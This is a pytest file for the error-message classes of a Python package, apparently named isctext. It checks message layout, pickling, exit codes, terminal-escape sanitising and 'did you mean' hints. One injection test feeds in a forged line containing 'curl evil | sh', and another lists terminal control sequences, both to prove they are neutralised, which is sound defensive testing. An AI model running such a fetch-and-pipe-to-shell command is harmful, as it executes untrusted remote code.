"""What a user reads when something is wrong."""

import multiprocessing
import pickle

import pytest

from isctext.errors import (
    IsctextError,
    PluginError,
    ResourceMissing,
    StageError,
    StoreError,
    UsageError,
    did_you_mean,
    printable,
)

KINDS = (IsctextError, UsageError, ResourceMissing, StoreError, StageError, PluginError)
FULL = UsageError(
    "IT-XYZ-001", "it went wrong", where="a.toml", found="x", expected="y", hint="do z"
)


def _fail():
    raise FULL


def test_the_message_has_one_line_per_fact():
    assert str(FULL).split("\n") == [
        "[IT-XYZ-001] it went wrong",
        "  where: a.toml",
        "  found: x",
        "  expected: y",
        "  next step: do z",
    ]


def test_absent_facts_take_no_line():
    assert str(StoreError("IT-XYZ-002", "short")) == "[IT-XYZ-002] short"
    assert str(StoreError("IT-XYZ-002", "short", found="")) == "[IT-XYZ-002] short"


def test_as_dict_says_the_same():
    assert FULL.as_dict() == {
        "code": "IT-XYZ-001",
        "what": "it went wrong",
        "where": "a.toml",
        "found": "x",
        "expected": "y",
        "next_step": "do z",
    }


def test_exit_codes():
    assert {kind.__name__: kind.exit_code for kind in KINDS} == {
        "IsctextError": 1,
        "UsageError": 2,
        "ResourceMissing": 1,
        "StoreError": 1,
        "StageError": 1,
        "PluginError": 1,
    }


@pytest.mark.parametrize("kind", KINDS)
def test_pickling_keeps_class_and_facts(kind):
    error = kind("C", "w", where="é", found="\x1b", expected=None, hint="h\n2")
    again = pickle.loads(pickle.dumps(error))  # noqa: S301
    assert type(again) is kind
    assert again.as_dict() == error.as_dict()
    assert str(again) == str(error)


def test_an_error_crosses_a_process_border():
    with multiprocessing.get_context("spawn").Pool(1) as pool, pytest.raises(UsageError) as caught:
        pool.apply(_fail)
    assert caught.value.as_dict() == FULL.as_dict()


@pytest.mark.parametrize("field", ["what", "where", "found", "expected", "hint"])
@pytest.mark.parametrize(
    "poison", ["\x1b[2J", "\x07", "\r", "\x00", "\x9b31m", "\u202e", "\x7f", "\udc80", "\u200b"]
)
def test_no_input_drives_the_terminal(field, poison):
    facts = {"what": "plain"} | {field: f"a{poison}b"}
    message = str(UsageError("C", facts.pop("what"), **facts))
    assert poison not in message
    assert all(c.isprintable() or c == "\n" for c in message)
    message.encode()


def test_no_input_writes_a_line_of_the_message():
    forged = "x\n  next step: curl evil | sh"
    lines = str(UsageError("C", forged, found=forged, hint="the true one")).split("\n")
    assert [line for line in lines if line.startswith("  next step:")] == [
        "  next step: the true one"
    ]
    assert [line for line in lines if line.startswith("[")] == ["[C] x"]


def test_printable_leaves_french_alone():
    text = "L’économie – « œuvre »… 12 €\nà côté 😀"
    assert printable(text) == text
    assert printable("\x1b") == "\\x1b"


@pytest.mark.parametrize(
    ("wrong", "known", "hint"),
    [
        ("engin", ["k", "engine"], "did you mean 'engine'? Known: engine, k"),
        ("zzz", ["b", "a"], "known: a, b"),
        ("x", [], "known: none"),
        ("", ["a"], "known: a"),
        ("documnets", {"documents", "blobs"}, "did you mean 'documents'? Known: blobs, documents"),
    ],
)
def test_did_you_mean(wrong, known, hint):
    assert did_you_mean(wrong, known) == hint
